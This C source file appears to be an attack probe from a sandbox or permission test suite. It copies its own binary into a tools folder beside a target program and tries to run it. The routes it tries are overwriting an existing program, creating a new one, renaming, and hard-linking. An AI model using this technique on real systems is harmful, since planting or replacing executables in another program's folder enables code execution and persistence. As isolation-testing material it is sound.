#include "attack.h"

/* For whoever may execute it: programs of a folder belong to nobody in here. */
static int drop(const char *path)
{
    int file = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    int done = file >= 0 && copy_self(file);
    close(file);
    return done;
}

static int runs(const char *path)
{
    int status = 1;
    pid_t child = fork();
    if (child == 0) {
        execl(path, path, LANDED, (char *)NULL);
        _exit(1);
    }
    return waitpid(child, &status, 0) == child && status == 0;
}

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* In a folder of programs beside TARGET: one is written over, one is made, one's own is moved there, has a second name there, and one of them has one outside. */
    char *tools = NULL, *own = in(workspace, "own"), *other = in(workspace, "other"), *second = in(workspace, "second");
    (void)extra;
    if (asprintf(&tools, "%.*s/tools", (int)(strrchr(target, '/') - target), target) < 0)
        return 0;
    char *there = in(tools, "there"), *made = in(tools, "made"), *moved = in(tools, "moved"), *linked = in(tools, "linked");
    return (drop(there) && runs(there)) || (drop(made) && runs(made)) || (drop(own) && rename(own, moved) == 0 && runs(moved)) ||
           (drop(other) && link(other, linked) == 0 && runs(linked)) || (link(there, second) == 0 && drop(second) && runs(there));
}
